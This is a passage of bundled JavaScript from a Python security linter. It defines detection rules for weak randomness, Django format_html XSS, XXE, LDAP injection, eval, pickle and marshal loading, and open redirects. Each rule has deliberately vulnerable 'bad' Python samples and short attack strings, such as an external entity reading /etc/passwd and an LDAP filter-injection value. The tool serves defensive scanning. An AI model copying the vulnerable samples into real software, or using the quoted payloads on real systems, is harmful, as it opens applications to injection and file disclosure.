          'import random\ndef generate_password(length=12):\n    return "".join(random.choices("abcdefghijklmnop0123456789", k=length))\n',
          "import random\ndef send_code(phone):\n    sms(phone, otp=random.randint(100000, 999999))\n",
          "from random import getrandbits\nnonce = getrandbits(64)\n",
          'import random\ndef login(response):\n    response.set_cookie("session", str(random.random()), secure=True, httponly=True)\n',
          'import random, hashlib\ndef hash_password(password):\n    salt = str(random.randint(0, 10**9)).encode()\n    return hashlib.pbkdf2_hmac("sha256", password.encode(), salt, 600000)\n'
        ],
        good: [
          "import secrets\ndef reset(user):\n    user.reset_token = secrets.token_urlsafe(32)\n",
          "import random, time\ndef backoff(attempt):\n    time.sleep(2 ** attempt + random.random())\n",
          "import random\ndef split(rows):\n    random.shuffle(rows)\n    return rows[:100], random.sample(rows, 10)\n",
          "import random\ndef pick(keys):\n    api_key = random.choice(keys)  # choosing one of several configured keys\n    return api_key\n",
          "import random\ntoken_ttl = random.randint(300, 600)\n",
          'import secrets\ndef login(response):\n    response.set_cookie("session", secrets.token_urlsafe(32), secure=True, httponly=True)\n'
        ],
        references: ["https://docs.python.org/3/library/random.html", "https://docs.python.org/3/library/secrets.html", "https://cwe.mitre.org/data/definitions/330.html"]
      },
      create(context) {
        const { module: module2 } = context;
        function evidence(call, name) {
          const method = lastName(name);
          const generated = method === "randint" || method === "randrange" ? isMultiDigit(call) : PICKERS.has(method) && picksOrBuilds(call, method, false);
          const shape = { generated, bits: BIT_SOURCES.has(method) };
          let built = false;
          let child = call;
          for (let node = call.parent; node && !STOPS.has(node.type); child = node, node = node.parent) {
            switch (node.type) {
              case "generator_expression":
              case "list_comprehension":
              case "binary_operator":
                built = true;
                break;
              case "subscript":
                if (node.childForFieldName("subscript")?.id === child.id) {
                  const population = node.childForFieldName("value");
                  if (!population || !isAlphabet(population, module2))
                    return void 0;
                }
                break;
              case "assignment":
              case "augmented_assignment": {
                const left = node.childForFieldName("left");
                if (!left || child.id === left.id)
                  return void 0;
                if (!picksOrBuilds(call, method, built || node.type === "augmented_assignment"))
                  return void 0;
                const secret = targetNames(left, module2).find((target) => namesSecret(target, shape));
                if (secret)
                  return { what: `'${secret}'`, confidence: "medium" };
                return left.type === "identifier" ? returnedFromSecretFunction(node, left.text) ?? passedAsSecret(node, left.text) : void 0;
              }
              case "keyword_argument": {
                const keyword = node.childForFieldName("name")?.text ?? "";
                const owner = node.parent?.parent;
                if (keyword === "value" && owner?.type === "call" && isCookieSetter(owner))
                  return picksOrBuilds(call, method, built) ? cookieEvidence(owner) : void 0;
                if (!picksOrBuilds(call, method, built) || !namesSecret(keyword, shape))
                  return void 0;
                return { what: `${keyword}=`, confidence: "medium" };
              }
              case "pair": {
                const key = node.childForFieldName("key");
                const keyName = key ? module2.constant(key) : void 0;
                if (child.id === key?.id || typeof keyName !== "string")
                  return void 0;
                if (!picksOrBuilds(call, method, built) || !namesSecret(keyName, shape))
                  return void 0;
                return { what: `the '${keyName}' entry`, confidence: "medium" };
              }
              case "argument_list": {
                const owner = node.parent;
                if (owner?.type !== "call" || child.type === "keyword_argument")
                  break;
                const sink = secretArgument(owner, child);
                if (sink)
                  return picksOrBuilds(call, method, built) ? sink : void 0;
                break;
              }
              case "return_statement": {
                const owner = enclosingFunction(node);
                const functionName = owner?.type === "function_definition" ? owner.childForFieldName("name")?.text ?? "" : "";
                if (!picksOrBuilds(call, method, built) || !namesSecret(functionName, shape))
                  return void 0;
                return { what: `the value returned by ${functionName}()`, confidence: "medium" };
              }
              default:
                break;
            }
          }
          return void 0;
        }
        function picksOrBuilds(call, method, built) {
          if (!PICKERS.has(method) || built)
            return true;
          const population = argument(call, method === "sample" ? "population" : "seq", 0) ?? argument(call, "population", 0);
          return !!population && isAlphabet(population, module2);
        }
        function isMultiDigit(call) {
          const upper = argument(call, "b", 1) ?? argument(call, "stop", 1) ?? argument(call, null, 0);
          const value = upper ? module2.constant(upper) : void 0;
          return typeof value === "number" && value >= 1e3;
        }
        const isCookieSetter = (owner) => COOKIE_SETTERS.includes(module2.calleeAttribute(owner) ?? "") && owner.childForFieldName("function")?.type === "attribute";
        function cookieEvidence(setter) {
          const name = argument(setter, "key", 0) ?? argument(setter, "name", 0);
          const text = name ? module2.constant(name) : void 0;
          const label = typeof text === "string" ? text : name?.text ?? "";
          const secret = AUTH_COOKIE.test(label) || namesSecret(label);
          return { what: `the cookie '${label}'`, confidence: secret ? "medium" : "low" };
        }
        function secretArgument(owner, value) {
          const position = argumentList(owner).findIndex((item) => item.id === value.id);
          if (isCookieSetter(owner))
            return position === 1 ? cookieEvidence(owner) : void 0;
          const name = module2.callName(owner);
          const parameter = name === void 0 ? void 0 : SECRET_PARAMETERS.get(name);
          return parameter && parameter[0] === position ? { what: parameter[1], confidence: "medium" } : void 0;
        }
        function passedAsSecret(assignment, local) {
          const owner = enclosingFunction(assignment) ?? module2.root;
          for (const use of owner.descendantsOfType("identifier")) {
            if (use.text !== local || use.startIndex < assignment.endIndex)
              continue;
            const list = use.parent;
            if (list?.type === "argument_list" && list.parent?.type === "call") {
              const found = secretArgument(list.parent, use);
              if (found)
                return found;
            }
            const keyword = list?.type === "keyword_argument" ? list : null;
            const setter = keyword?.parent?.parent;
            if (keyword?.childForFieldName("name")?.text === "value" && setter?.type === "call" && isCookieSetter(setter))
              return cookieEvidence(setter);
          }
          return void 0;
        }
        function returnedFromSecretFunction(assignment, local) {
          const owner = enclosingFunction(assignment);
          const functionName = owner?.type === "function_definition" ? owner.childForFieldName("name")?.text ?? "" : "";
          if (!owner || !namesSecret(functionName))
            return void 0;
          const returned = owner.descendantsOfType("return_statement").some((statement) => enclosingFunction(statement)?.id === owner.id && statement.descendantsOfType("identifier").some((identifier) => identifier.text === local));
          return returned ? { what: `the value returned by ${functionName}()`, confidence: "medium" } : void 0;
        }
        function harmlessPurpose(call) {
          const owner = enclosingFunction(call);
          const functionName = owner?.type === "function_definition" ? owner.childForFieldName("name")?.text ?? "" : "";
          if (!functionName || namesSecret(functionName))
            return false;
          return words(functionName).some((word) => HARMLESS_PURPOSES.has(word) || NOT_SECRET_WORDS.has(word));
        }
        return {
          call(node) {
            const name = module2.callName(node);
            if (name === "random.Random")
              context.report({ node, severity: "low", confidence: "low", auditOnly: true, message: "random.Random(): a predictable generator (shown by --profile audit)" });
            if (name === void 0 || !GENERATORS2.has(name))
              return;
            const found = evidence(node, name);
            if (!found || harmlessPurpose(node)) {
              context.report({ node, severity: "low", confidence: "low", auditOnly: true, message: `${name}: the random module is predictable; no sign of a security use here (shown by --profile audit)` });
              return;
            }
            context.report({
              node,
              confidence: found.confidence,
              message: `${name} used for ${found.what}: the random module is predictable; use the secrets module`
            });
          }
        };
      }
    });
  }
});

// dist/rules/xss/django-format-html-misuse.js
function formattingKind(node, module2, depth = 0) {
  switch (node.type) {
    case "string":
      return /^[a-zA-Z]*[fF]/.test(node.text) ? "an f-string" : void 0;
    case "binary_operator": {
      const operator = node.childForFieldName("operator")?.type;
      return operator === "%" ? "%-formatting" : operator === "+" ? "concatenation" : void 0;
    }
    case "concatenated_string":
      return "an f-string";
    case "call":
      return module2.calleeAttribute(node) === "format" ? "str.format()" : void 0;
    case "parenthesized_expression":
      return node.firstNamedChild ? formattingKind(node.firstNamedChild, module2, depth) : void 0;
    case "identifier": {
      const values = depth < 3 ? module2.valuesOf(node) : void 0;
      return values?.map((value) => formattingKind(value, module2, depth + 1)).find(Boolean);
    }
    default:
      return void 0;
  }
}
var FORMATTERS, ESCAPERS, django_format_html_misuse_default;
var init_django_format_html_misuse = __esm({
  "dist/rules/xss/django-format-html-misuse.js"() {
    "use strict";
    init_name_triggers();
    init_types();
    init_arguments();
    init_taint();
    FORMATTERS = {
      "django.utils.html.format_html": 0,
      "django.utils.html.format_html_join": 1
    };
    ESCAPERS = /* @__PURE__ */ new Set(["django.utils.html.escape", "django.utils.html.conditional_escape", "html.escape"]);
    django_format_html_misuse_default = defineRule({
      id: "django-format-html-misuse",
      aliases: [],
      category: "xss",
      cwe: 79,
      severity: "medium",
      confidence: "high",
      cost: "fast",
      message: "format_html() receives a string that is already formatted: the values in it are not escaped",
      fix: 'Pass the template and the values separately: `format_html("<b>{}</b>", name)`; format_html escapes each argument and marks only the result safe.',
      triggers: Object.keys(FORMATTERS).map(lastName),
      callees: Object.keys(FORMATTERS).map(lastName),
      docs: {
        why: "format_html() escapes its arguments, then marks the result as safe HTML. Formatting the string first (f-string, %, .format(), +) pastes the values in unescaped, and format_html then vouches for them: the template renders them as markup, an XSS hole that looks like the safe API. Request data formatted in this way is high severity (blocking), with the path from the request shown.",
        bad: [
          'from django.utils.html import format_html\ndef badge(name):\n    return format_html(f"<b>{name}</b>")\n',
          'from django.utils.html import format_html\ndef badge(name):\n    return format_html("<b>%s</b>" % name)\n',
          'from django.utils.html import format_html\ndef badge(name):\n    html = "<b>{}</b>".format(name)\n    return format_html(html)\n'
        ],
        good: [
          'from django.utils.html import format_html\ndef badge(name):\n    return format_html("<b>{}</b>", name)\n',
          'from django.utils.html import format_html\nCLASS = "badge"\ndef badge(name):\n    return format_html(f"<b class={CLASS!r}>{{}}</b>", name)\n',
          'from django.utils.html import escape, format_html\ndef badge(name):\n    return format_html("<b>%s</b>" % escape(name))\n'
        ],
        references: ["https://docs.djangoproject.com/en/stable/ref/utils/#django.utils.html.format_html", "https://cwe.mitre.org/data/definitions/79.html"]
      },
      create(context) {
        return {
          call(node) {
            const name = context.module.callName(node);
            if (name === void 0 || !(name in FORMATTERS))
              return;
            const template = argument(node, "format_string", FORMATTERS[name]);
            if (!template)
              return;
            const shape = context.module.fold(template);
            if (!shape || shape.constant)
              return;
            if (shape.dynamic.every((part) => part.type === "call" && ESCAPERS.has(context.module.callName(part) ?? "")))
              return;
            const kind = formattingKind(template, context.module);
            if (!kind)
              return;
            const function_ = lastName(name);
            const evidence = requestEvidence(template, node, context.module, "html", `${function_}() receives request data already formatted in with ${kind}: it is not escaped (XSS)`);
            context.report({ node, message: `${function_}() receives a string already built with ${kind}: the values in it are not escaped`, ...evidence ? { ...evidence, severity: "high" } : {} });
          }
        };
      }
    });
  }
});

// dist/rules/xxe/xml-entity-resolution.js
function isTrue(node, module2) {
  const value = node ? module2.constant(node) : void 0;
  return value === true || value === 1;
}
function isFalse(node, module2) {
  const value = node ? module2.constant(node) : void 0;
  return value === false || value === 0;
}
var LXML_PARSERS, SAX_EXTERNAL_FEATURES, xml_entity_resolution_default;
var init_xml_entity_resolution = __esm({
  "dist/rules/xxe/xml-entity-resolution.js"() {
    "use strict";
    init_name_triggers();
    init_types();
    init_arguments();
    LXML_PARSERS = /* @__PURE__ */ new Set(["lxml.etree.XMLParser", "lxml.etree.ETCompatXMLParser", "lxml.etree.XMLPullParser", "lxml.objectify.makeparser"]);
    SAX_EXTERNAL_FEATURES = /* @__PURE__ */ new Map([
      ["xml.sax.handler.feature_external_ges", "external general entities"],
      ["xml.sax.handler.feature_external_pes", "external parameter entities"],
      ["http://xml.org/sax/features/external-general-entities", "external general entities"],
      ["http://xml.org/sax/features/external-parameter-entities", "external parameter entities"]
    ]);
    xml_entity_resolution_default = defineRule({
      id: "xml-entity-resolution",
      aliases: [],
      category: "xxe",
      cwe: 611,
      severity: "high",
      confidence: "medium",
      cost: "fast",
      message: "XML parser configured to resolve external entities: a document can read local files or make the server fetch URLs",
      fix: `Keep lxml's defaults (resolve_entities="internal" since lxml 5, no_network=True) or pass resolve_entities=False; for untrusted input use defusedxml.`,
      // The parsers' last names (rarer than `lxml`) and the SAX method, as written.
      triggers: [...new Set([...LXML_PARSERS].map(lastName)), "setFeature"],
      callees: [...[...LXML_PARSERS].map(lastName), "setFeature"],
      docs: {
        why: 'An XML document can declare entities that point at files (`<!ENTITY x SYSTEM "file:///etc/passwd">`) or URLs. A parser that resolves them copies the file into the parsed document or makes the server send requests (XXE, CWE-611). lxml resolves external entities only when told to (resolve_entities=True; before lxml 5 that was also the default) and fetches over the network only with no_network=False; xml.sax does it only with the external-entity features on. This rule reports those explicit settings. The parser construction is reported, not each parse call that uses the parser.',
        bad: [
          "from lxml import etree\nPARSER = etree.XMLParser(resolve_entities=True)\n",
          "from lxml import etree\ndef load(data):\n    return etree.fromstring(data, etree.XMLParser(load_dtd=True, no_network=False))\n",
          "import xml.sax\nfrom xml.sax.handler import feature_external_ges\nparser = xml.sax.make_parser()\nparser.setFeature(feature_external_ges, True)\n"
        ],
        good: [
          "from lxml import etree\nPARSER = etree.XMLParser(resolve_entities=False, no_network=True)\n",
          "from lxml import etree\nPARSER = etree.XMLParser(remove_blank_text=True)\n",
          "import xml.sax\nfrom xml.sax.handler import feature_external_ges\nparser = xml.sax.make_parser()\nparser.setFeature(feature_external_ges, False)\n"
        ],
        references: ["https://lxml.de/api/lxml.etree.XMLParser-class.html", "https://docs.python.org/3/library/xml.html#xml-vulnerabilities", "https://cwe.mitre.org/data/definitions/611.html"]
      },
      create(context) {
        return {
          call(node) {
            const name = context.module.callName(node);
            if (name === void 0)
              return;
            if (LXML_PARSERS.has(name)) {
              const resolves = isTrue(keywordArgument(node, "resolve_entities"), context.module);
              const network = isFalse(keywordArgument(node, "no_network"), context.module);
              if (resolves) {
                context.report({ node, message: network ? "lxml parser with resolve_entities=True and no_network=False: a document can read local files and make the server fetch URLs" : "lxml parser with resolve_entities=True: a document can read local files through external entities" });
              } else if (network) {
                context.report({ node, severity: "medium", message: "lxml parser with no_network=False: DTDs and entities may be fetched from any URL a document names" });
              }
              return;
            }
            if (context.module.calleeAttribute(node) !== "setFeature")
              return;
            const feature = argument(node, null, 0);
            const state = argument(node, null, 1);
            if (!feature || !isTrue(state, context.module))
              return;
            const featureName = context.module.constant(feature) ?? context.module.qualifiedName(feature);
            const what = typeof featureName === "string" ? SAX_EXTERNAL_FEATURES.get(featureName) : void 0;
            if (what)
              context.report({ node, confidence: "high", message: `SAX parser with ${what} turned on: a document can read local files or make the server fetch URLs` });
          }
        };
      }
    });
  }
});

// dist/rules/ldap-injection/ldap-injection.js
function searchFilter(call, module2) {
  const method = module2.calleeAttribute(call);
  if (!method || call.childForFieldName("function")?.type !== "attribute")
    return void 0;
  const name = module2.callName(call) ?? "";
  if (method === "search" && (name.startsWith("ldap3.") || module2.importsModule("ldap3") && !module2.importsModule("ldap"))) {
    return argument(call, "search_filter", 1);
  }
  if (PYTHON_LDAP_SEARCHES.has(method) && (name.startsWith("ldap.") || module2.importsModule("ldap")))
    return argument(call, "filterstr", 2);
  return void 0;
}
var PYTHON_LDAP_SEARCHES, ldap_injection_default;
var init_ldap_injection = __esm({
  "dist/rules/ldap-injection/ldap-injection.js"() {
    "use strict";
    init_taint_rule();
    init_arguments();
    PYTHON_LDAP_SEARCHES = /* @__PURE__ */ new Set(["search", "search_s", "search_st", "search_ext", "search_ext_s"]);
    ldap_injection_default = taintRule({
      id: "ldap-injection",
      aliases: [],
      category: "ldap-injection",
      cwe: 90,
      severity: "high",
      confidence: "high",
      cost: "deep",
      sinkClass: "ldap",
      sinks: {},
      findSink: (call, module2) => searchFilter(call, module2) ?? void 0,
      levels: SINK_LEVELS,
      describe: (source) => `LDAP filter built from ${source} (LDAP injection)`,
      message: "LDAP search filter built from run-time data: `*`, `(` and `)` in it change the filter (LDAP injection)",
      fix: "Escape every value with ldap.filter.escape_filter_chars (ldap3: ldap3.utils.conv.escape_filter_chars), or build the filter with ldap.filter.filter_format.",
      // A search counts only with an `ldap`/`ldap3` import or a callee resolved under one of them.
      triggers: ["ldap", "ldap3"],
      // searchFilter matches the callee's attribute; ldap3's `search` is among python-ldap's names.
      callees: [...PYTHON_LDAP_SEARCHES],
      docs: {
        why: "A user name like `*)(uid=*))(|(uid=*` turns `(&(uid=NAME)(objectClass=person))` into a filter that matches every entry: login checks pass and directory data leaks. Filters built from request data block; from a parameter or an unknown value they are shown; escaped or constant filters only by --profile audit.",
        bad: [
          'import ldap\ndef find(request):\n    conn = ldap.initialize("ldap://directory")\n    user = request.GET["user"]\n    return conn.search_s("ou=people,dc=example", ldap.SCOPE_SUBTREE, "(uid=" + user + ")")\n',
          'from ldap3 import Connection\ndef find(conn, name):\n    conn.search("dc=example", f"(cn={name})")\n'
        ],
        good: [
          'import ldap\nfrom ldap.filter import escape_filter_chars\ndef find(request):\n    conn = ldap.initialize("ldap://directory")\n    user = escape_filter_chars(request.GET["user"])\n    return conn.search_s("ou=people,dc=example", ldap.SCOPE_SUBTREE, "(uid=" + user + ")")\n',
          'import ldap\ndef admins(conn):\n    return conn.search_s("ou=people,dc=example", ldap.SCOPE_SUBTREE, "(memberOf=cn=admins)")\n'
        ],
        references: ["https://cwe.mitre.org/data/definitions/90.html", "https://cheatsheetseries.owasp.org/cheatsheets/LDAP_Injection_Prevention_Cheat_Sheet.html", "https://www.python-ldap.org/en/latest/reference/ldap-filter.html"]
      }
    });
  }
});

// dist/rules/code-injection/eval-used.js
var eval_used_default;
var init_eval_used = __esm({
  "dist/rules/code-injection/eval-used.js"() {
    "use strict";
    init_taint_rule();
    eval_used_default = taintRule({
      id: "eval-used",
      aliases: ["B307", "S307", "eval"],
      category: "code-injection",
      cwe: 78,
      severity: "medium",
      confidence: "high",
      message: "eval() evaluates arbitrary Python expressions",
      fix: "Use ast.literal_eval() for literals, json.loads() for data, or an explicit dispatch table.",
      sinkClass: "code",
      sinks: { eval: { position: 0 }, "builtins.eval": { position: 0 } },
      // A function of the module's own named `eval` is not the builtin.
      when: (_call, module2, name) => name === "builtins.eval" || module2.isBuiltin("eval"),
      levels: SINK_LEVELS,
      describe: (source) => `eval() evaluates an expression built from ${source}`,
      docs: {
        why: 'eval() runs any expression it is given, including `__import__("os").system(...)`. An expression from request data or other outside input blocks; from a parameter or an unknown value it is shown; a constant is shown only by --profile audit.',
        bad: [
          'from flask import request\ndef calc():\n    return str(eval(request.args.get("expr")))\n',
          "def parse(text):\n    return eval(text)\n"
        ],
        good: ["import ast\ndef parse(text):\n    return ast.literal_eval(text)\n", 'LIMIT = eval("2 ** 10")\n'],
        references: ["https://docs.python.org/3/library/ast.html#ast.literal_eval", "https://cwe.mitre.org/data/definitions/95.html"]
      }
    });
  }
});

// dist/rules/deserialization/pickle-load.js
var DATA, members, SINKS2, PICKLE_OPT_IN, pickle_load_default;
var init_pickle_load = __esm({
  "dist/rules/deserialization/pickle-load.js"() {
    "use strict";
    init_taint_rule();
    init_constant_path_file();
    init_arguments();
    DATA = { position: 0 };
    members = (modules, names) => modules.flatMap((module2) => names.map((name) => `${module2}.${name}`));
    SINKS2 = Object.fromEntries([
      ...members(["pickle", "cPickle", "_pickle", "dill", "cloudpickle"], ["loads", "load", "Unpickler"]),
      "shelve.open",
      "shelve.DbfilenameShelf",
      "jsonpickle.decode",
      "jsonpickle.unpickler.decode",
      "jsonpickle.unpickler.Unpickler",
      "pandas.read_pickle",
      "numpy.load"
    ].map((name) => [name, DATA]));
    PICKLE_OPT_IN = { "numpy.load": { keyword: "allow_pickle", position: 2 } };
    pickle_load_default = taintRule({
      id: "pickle-load",
      aliases: ["B301", "S301", "pickle"],
      category: "deserialization",
      cwe: 502,
      severity: "medium",
      confidence: "high",
      message: "unpickling runs code chosen by whoever wrote the data: never load pickles from an untrusted source",
      fix: "Exchange data as JSON (json.loads) or another data-only format; if pickles must cross a trust boundary, sign them (hmac) and verify before loading.",
      sinkClass: "deserialization",
      sinks: SINKS2,
      levels: SINK_LEVELS,
      when: (call, module2, name) => {
        const optIn = name === void 0 ? void 0 : PICKLE_OPT_IN[name];
        if (!optIn)
          return true;
        const flag = argument(call, optIn.keyword, optIn.position);
        return flag !== void 0 && module2.constant(flag) !== false;
      },
      safeForm: (call, module2) => deployerFileReason(call, module2, "file"),
      describe: (source, call, module2) => `${module2.callName(call)}() deserialises ${source}: unpickling runs code chosen by whoever wrote the data`,
      docs: {
        why: "A pickle is a small program: `__reduce__` lets the data name any callable to run while loading, so pickle.loads(attacker_bytes) is remote code execution. dill, cloudpickle, shelve, jsonpickle and pandas.read_pickle wrap the same machinery, as does numpy.load with allow_pickle=True. Request data or other outside input blocks; a parameter or an unknown value (a file of unknown origin, a cache) is shown; a constant, or a file opened at a path written in the code (the deployer's own data), is shown only by --profile audit.",
        bad: [
          "import pickle\nfrom flask import request\ndef restore():\n    return pickle.loads(request.get_data())\n",
          "from pickle import loads as l\ndef restore(blob):\n    return l(blob)\n"
        ],
        good: ["import json\ndef restore(blob):\n    return json.loads(blob)\n", 'import pickle\nMODEL = "/opt/app/model.pkl"\ndef load_model():\n    with open(MODEL, "rb") as fh:\n        return pickle.load(fh)\n', "def restore(model, path):\n    return model.load(path)\n"],
        references: ["https://docs.python.org/3/library/pickle.html", "https://cwe.mitre.org/data/definitions/502.html"]
      }
    });
  }
});

// dist/rules/deserialization/marshal-load.js
var marshal_load_default;
var init_marshal_load = __esm({
  "dist/rules/deserialization/marshal-load.js"() {
    "use strict";
    init_taint_rule();
    init_constant_path_file();
    marshal_load_default = taintRule({
      id: "marshal-load",
      aliases: ["B302", "S302", "marshal"],
      category: "deserialization",
      cwe: 502,
      severity: "medium",
      confidence: "high",
      message: "marshal is not secure against erroneous or maliciously constructed data",
      fix: "Use json (or another data-only format) for data that crosses a trust boundary; marshal is for .pyc internals.",
      sinkClass: "deserialization",
      sinks: { "marshal.load": { position: 0 }, "marshal.loads": { position: 0 } },
      levels: SINK_LEVELS,
      safeForm: (call, module2) => deployerFileReason(call, module2, "file"),
      describe: (source, call, module2) => `${module2.callName(call)}() unmarshals ${source}: malformed or malicious data crashes the interpreter or carries code`,
      docs: {
        why: "The marshal format is an internal CPython format: malformed input can crash the interpreter and it carries code objects. The documentation warns never to unmarshal untrusted data. Request data blocks; a parameter or unknown value is shown; a constant, or a file opened at a path written in the code, only by --profile audit.",
        bad: ["import marshal\nfrom flask import request\ndef restore():\n    return marshal.loads(request.data)\n", "import marshal\ndef restore(blob):\n    return marshal.loads(blob)\n"],
        good: ["import json\ndef restore(blob):\n    return json.loads(blob)\n"],
        references: ["https://docs.python.org/3/library/marshal.html"]
      }
    });
  }
});

// dist/rules/tables/xml-parsers.js
function xmlParserRule(row) {
  return taintRule({
    id: row.id,
    // Bandit's test names `xml_bad_cElementTree`/`xml_bad_ElementTree` are written lower-case: aliases are matched
    // case-insensitively, so either spelling finds the rule.
    aliases: [row.bandit, row.ruff, row.name],
    category: "xxe",
    cwe: 20,
    severity: "medium",
    confidence: "high",
    message: "stdlib XML parser on possibly untrusted data: vulnerable to entity-expansion (billion laughs) and other XML attacks",
    fix: "Parse untrusted XML with defusedxml (same API: defusedxml.ElementTree.fromstring, defusedxml.minidom.parseString\u2026), or call defusedxml.defuse_stdlib() at start-up.",
    sinkClass: "xml",
    sinks: Object.fromEntries(row.functions.map((name) => [`${row.module}.${name}`, DOCUMENT_ARGUMENTS[name]])),
    levels: SINK_LEVELS,
    // A file at a path the code or its deployment fixes (a report the program wrote itself, a bundled schema).
    safeForm: (call, module2) => FILE_PARSERS.test(module2.callName(call) ?? "") ? deployerPathReason(call, module2, "source") : void 0,
    describe: (source, call, module2) => {
      const name = module2.callName(call) ?? "";
      return PARSER_FACTORY.test(name) ? `${name}() builds a stdlib XML parser for documents fed to it later: entity expansion (billion laughs) and other XML attacks` : `${name}() parses ${source} with a stdlib XML parser: entity expansion (billion laughs) and other XML attacks`;
    },
    docs: {
      why: "The standard library XML parsers expand entities: a few hundred bytes of crafted XML can use gigabytes of memory (billion laughs, quadratic blow-up), and some parsers fetch external DTDs. defusedxml refuses these constructs. A document from request data blocks; from a parameter or an unknown place it is shown; a constant document, or a file at a path fixed in the code or its settings, only by --profile audit.",
      bad: [row.bad],
      good: [row.good],
      references: XML_DOCS_REFERENCES
    }
  });
}
var XML_DOCS_REFERENCES, DOCUMENT_ARGUMENTS, PARSER_FACTORY, FILE_PARSERS, PARSE_FUNCTIONS, XML_PARSER_RULES;
var init_xml_parsers = __esm({
  "dist/rules/tables/xml-parsers.js"() {
    "use strict";
    init_taint_rule();
    init_constant_path_file();
    XML_DOCS_REFERENCES = ["https://docs.python.org/3/library/xml.html#xml-vulnerabilities", "https://pypi.org/project/defusedxml/"];
    DOCUMENT_ARGUMENTS = {
      parse: { keyword: "source", position: 0 },
      iterparse: { keyword: "source", position: 0 },
      fromstring: { keyword: "text", position: 0 },
      XML: { keyword: "text", position: 0 },
      parseString: { keyword: "string", position: 0 },
      XMLParser: { position: null },
      make_parser: { position: null },
      create_parser: { position: null }
    };
    PARSER_FACTORY = /(^|\.)(XMLParser|make_parser|create_parser)$/;
    FILE_PARSERS = /(^|\.)(parse|iterparse)$/;
    PARSE_FUNCTIONS = ["parse", "iterparse", "fromstring", "XMLParser", "XML"];
    XML_PARSER_RULES = [
      xmlParserRule({
        id: "xml-celementtree-parse",
        bandit: "B313",
        ruff: "S313",
        name: "xml_bad_celementtree",
        module: "xml.etree.cElementTree",
        functions: PARSE_FUNCTIONS,
        good: "import defusedxml.cElementTree as ET\ndef read(data):\n    return ET.fromstring(data)\n",
        bad: "import xml.etree.cElementTree as ET\ndef read(data):\n    return ET.fromstring(data)\n"
      }),
      xmlParserRule({
        id: "xml-etree-parse",
        bandit: "B314",
        ruff: "S314",
        name: "xml_bad_elementtree",
        module: "xml.etree.ElementTree",
        functions: PARSE_FUNCTIONS,
        good: "import defusedxml.ElementTree as ET\ndef read(data):\n    return ET.fromstring(data)\n",
        bad: "import xml.etree.ElementTree as ET\nfrom flask import request\ndef upload():\n    return ET.fromstring(request.data)\n"
      }),
      xmlParserRule({
        id: "xml-expat-reader",
        bandit: "B315",
        ruff: "S315",
        name: "xml_bad_expatreader",
        module: "xml.sax.expatreader",
        functions: ["create_parser"],
        good: "import defusedxml.expatreader\nparser = defusedxml.expatreader.create_parser()\n",
        bad: "import xml.sax.expatreader\nparser = xml.sax.expatreader.create_parser()\n"
      }),
      xmlParserRule({
        id: "xml-expat-builder",
        bandit: "B316",
        ruff: "S316",
        name: "xml_bad_expatbuilder",
        module: "xml.dom.expatbuilder",
        functions: ["parse", "parseString"],
        good: "import defusedxml.expatbuilder as builder\ndef read(data):\n    return builder.parseString(data)\n",
        bad: "import xml.dom.expatbuilder as builder\ndef read(data):\n    return builder.parseString(data)\n"
      }),
      xmlParserRule({
        id: "xml-sax-parse",
        bandit: "B317",
        ruff: "S317",
        name: "xml_bad_sax",
        module: "xml.sax",
        functions: ["parse", "parseString", "make_parser"],
        good: "import defusedxml.sax\ndef read(data, handler):\n    defusedxml.sax.parseString(data, handler)\n",
        bad: "import xml.sax\ndef read(data, handler):\n    xml.sax.parseString(data, handler)\n"
      }),
      xmlParserRule({
        id: "xml-minidom-parse",
        bandit: "B318",
        ruff: "S318",
        name: "xml_bad_minidom",
        module: "xml.dom.minidom",
        functions: ["parse", "parseString"],
        good: "import defusedxml.minidom\ndef read(data):\n    return defusedxml.minidom.parseString(data)\n",
        bad: "from xml.dom import minidom\ndef read(data):\n    return minidom.parseString(data)\n"
      }),
      xmlParserRule({
        id: "xml-pulldom-parse",
        bandit: "B319",
        ruff: "S319",
        name: "xml_bad_pulldom",
        module: "xml.dom.pulldom",
        functions: ["parse", "parseString"],
        good: "import defusedxml.pulldom\ndef read(data):\n    return defusedxml.pulldom.parseString(data)\n",
        bad: "from xml.dom import pulldom\ndef read(data):\n    return pulldom.parseString(data)\n"
      })
    ];
  }
});

// dist/rules/open-redirect/open-redirect.js
var REDIRECTS, open_redirect_default;
var init_open_redirect = __esm({
  "dist/rules/open-redirect/open-redirect.js"() {
    "use strict";
    init_taint_rule();
    init_name_triggers();
    REDIRECTS = {
      "django.shortcuts.redirect": { keyword: "to", position: 0 },
      "django.http.HttpResponseRedirect": { keyword: "redirect_to", position: 0 },
      "django.http.HttpResponsePermanentRedirect": { keyword: "redirect_to", position: 0 },
      "django.http.response.HttpResponseRedirect": { keyword: "redirect_to", position: 0 },
      "django.http.response.HttpResponsePermanentRedirect": { keyword: "redirect_to", position: 0 },
      "flask.redirect": { keyword: "location", position: 0 },
      "werkzeug.utils.redirect": { keyword: "location", position: 0 },
      "starlette.responses.RedirectResponse": { keyword: "url", position: 0 },
      "fastapi.responses.RedirectResponse": { keyword: "url", position: 0 }
    };
    open_redirect_default = taintRule({
      id: "open-redirect",
      aliases: [],
      category: "open-redirect",
      cwe: 601,
      severity: "high",
      confidence: "high",
      cost: "deep",
      sinkClass: "redirect",
      sinks: REDIRECTS,
      // Who picks the scheme and host decides where users land; the path and query after them do not.
      leading: true,
      levels: FLOW_LEVELS,
      describe: (source) => `redirect target comes from ${source} (open redirect)`,
      message: "redirect to a URL taken from the request: the site can be used to send users anywhere (open redirect)",
      fix: "Check the target first (Django: url_has_allowed_host_and_scheme(url, allowed_hosts={request.get_host()}); Flask: accept only relative paths), or redirect to a named route.",
      triggers: Object.keys(REDIRECTS).map(lastName),
      callees: Object.keys(REDIRECTS).map(lastName),
      docs: {
        why: 'A `?next=` parameter that is redirected to as is lets a phishing link start on your domain and end on the attacker\'s. Only targets that come from the request are reported; a target whose constant start fixes the site (`"/items/" + id`) or that passed an allow-list check (`if url in ALLOWED`, `url_has_allowed_host_and_scheme(url, \u2026)`) is accepted.',
        bad: [
          'from django.shortcuts import redirect\ndef done(request):\n    return redirect(request.GET.get("next", "/"))\n',
          'from flask import request, redirect\ndef done():\n    target = request.args["next"]\n    return redirect(target)\n'
        ],
        good: [
          'from django.shortcuts import redirect\nfrom django.utils.http import url_has_allowed_host_and_scheme\ndef done(request):\n    url = request.GET.get("next", "/")\n    if not url_has_allowed_host_and_scheme(url, allowed_hosts={request.get_host()}):\n        url = "/"\n    return redirect(url)\n',
          'from flask import request, redirect\ndef item():\n    return redirect("/items/" + request.args["id"])\n'
        ],
